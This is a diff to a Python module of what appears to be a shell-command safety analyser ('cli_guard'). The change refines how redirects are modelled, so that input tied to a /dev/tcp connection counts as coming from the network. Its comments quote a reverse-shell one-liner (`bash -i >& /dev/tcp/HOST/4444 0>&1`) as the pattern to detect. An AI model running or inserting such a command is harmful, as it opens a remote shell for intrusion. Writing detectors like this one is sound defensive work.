@@ -7,7 +7,7 @@ from cli_guard.commands.effects.places import PathClass, classify_path
 from cli_guard.commands.expand.fields import Field, literal, stream_of
 from cli_guard.commands.machine import Machine
 from cli_guard.commands.parse.tree import Redirect
-from cli_guard.commands.scope import NOTHING, REMOTE, Stream
+from cli_guard.commands.scope import NOTHING, REMOTE, Stream, make_doubtful
 
 DESCRIPTOR = re.compile(r"(\d*)-?")
 STANDARD = ("", "0", "1", "2", "&")
@@ -26,17 +26,14 @@ def apply_redirects(shell: Machine, redirects: tuple[Redirect, ...], stdin: Stre
         elif redirect.operator in (">&", "<&") and (number := DESCRIPTOR.fullmatch(target.text or "x")):
             opened = shell.scope.descriptors.get(number[1])
             if redirect.descriptor in ("0", "") and number[1] in ("1", "2") and is_connected(shell, sinks):
-                # `0>&1` behind `>& /dev/tcp/...`: the input comes from there, not from a pipe.
-                stdin = Stream(None, frozenset((REMOTE,)))
+                # `true | bash -i >& /dev/tcp/HOST/4444 0>&1`: the input is the connection, whatever the pipe holds.
+                stdin = FROM_NETWORK
             if opened and redirect.operator == ">&":
                 sinks.append((redirect.descriptor, literal(opened, redirect.span)))
             elif redirect.operator == ">&" and redirect.descriptor in OUTPUT and number[1] == "2":
                 sinks.append(("", literal("/dev/stderr", redirect.span)))
             elif opened:
                 stdin = read_path(shell, literal(opened, redirect.span), redirect.span)
-            elif redirect.descriptor == "0" and number[1] in ("1", "2") and is_connected(shell, sinks):
-                # `true | bash -i >& /dev/tcp/HOST/4444 0>&1`: the input is the connection, whatever the pipe holds.
-                stdin = FROM_NETWORK
         elif redirect.operator == "<" and target.stream is not None:
             stdin = target.stream
         else:
@@ -66,4 +63,8 @@ def write_sinks(shell: Machine, output: Stream, sinks: Sinks) -> Stream:
             shell.run_script(target.script, carried)
         else:
             write_path(shell, target, target.span, carried)
-    return NOTHING if any(descriptor in OUTPUT for descriptor, _ in sinks) else output
+    taken = [target for descriptor, target in sinks if descriptor in OUTPUT]
+    if any(target.start.startswith(("/dev/", "/proc/")) for target in taken):
+        # `>/dev/stdout` is the pipe, and `>&2` may be.
+        return make_doubtful(output)
+    return NOTHING if taken else output
